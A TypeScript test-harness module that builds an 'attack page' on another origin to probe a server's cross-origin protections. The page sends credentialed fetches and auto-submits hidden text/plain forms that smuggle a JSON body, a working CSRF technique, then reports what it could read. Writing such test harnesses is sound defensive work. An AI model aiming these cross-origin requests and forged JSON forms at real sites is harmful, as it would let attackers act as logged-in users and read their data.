import type { PageAttempt } from './attempt.ts';

/** Path to which a page posts what it could read. */
export const reportPath = '/adversary-report';

/** A page that makes each attempt at a server, and tells then what it could read. */
export function attackPage(base: string, attempts: readonly PageAttempt[]): string {
  const given = JSON.stringify({ base, attempts, reportPath }).replaceAll('<', '\\u003c');
  return `<!doctype html><meta charset="utf-8"><title>Another origin</title><script>
const { base, attempts, reportPath } = ${given};
const tell = async (attempt) => {
  const init = { method: attempt.method, mode: attempt.way, credentials: 'include', redirect: 'follow' };
  if (attempt.body !== null && attempt.method !== 'GET') {
    init.body = attempt.body;
    // Without CORS a page may name the types of forms alone.
    init.headers = { 'content-type': attempt.way === 'cors' ? 'application/json' : 'text/plain' };
  }
  const answer = await fetch(base + attempt.target, init);
  return { attempt, status: answer.status, text: (await answer.text()).slice(0, 300) };
};
const post = (attempt) => new Promise((resolve) => {
  const frame = document.createElement('iframe');
  frame.name = 'frame' + Math.random();
  const form = document.createElement('form');
  Object.assign(form, { action: base + attempt.target, method: 'post', enctype: 'text/plain', target: frame.name });
  const field = document.createElement('input');
  // Written as \`name=value\`, which is JSON again.
  const [name, value] = attempt.body && attempt.body.length > 2 ? [attempt.body.slice(0, -1) + ',"', '":1}'] : ['{"', '":1}'];
  Object.assign(field, { type: 'hidden', name, value });
  form.append(field);
  document.body.append(frame, form);
  setTimeout(() => { frame.onload = resolve; form.submit(); }, 50);
  setTimeout(resolve, 2000);
});
addEventListener('load', async () => {
  const outcomes = [];
  for (const attempt of attempts) {
    const nothing = { attempt, status: 0, text: '' };
    if (attempt.way === 'form') outcomes.push(await post(attempt).then(() => nothing));
    else outcomes.push(await tell(attempt).catch(() => nothing));
  }
  await fetch(reportPath, { method: 'POST', body: JSON.stringify(outcomes) });
});
</script><body></body>`;
}
